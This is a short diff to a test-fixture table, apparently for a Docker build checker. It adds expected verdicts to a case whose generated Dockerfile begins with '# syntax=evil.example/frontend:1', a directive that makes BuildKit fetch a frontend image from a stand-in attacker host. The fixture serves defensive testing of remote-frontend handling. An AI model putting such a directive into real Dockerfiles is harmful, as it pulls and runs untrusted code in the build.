@@ -13,6 +13,9 @@ export const images: Row[] = [
     ...IMAGE,
     row: 22,
     name: 'a remote # syntax=',
+    only: 'C2',
+    // The classic builder reads it as a comment; BuildKit would fetch it, and cannot.
+    verdicts: ['failed', 'partial'],
     files: { Dockerfile: (text) => `# syntax=evil.example/frontend:1\n${text}` },
   },
   {
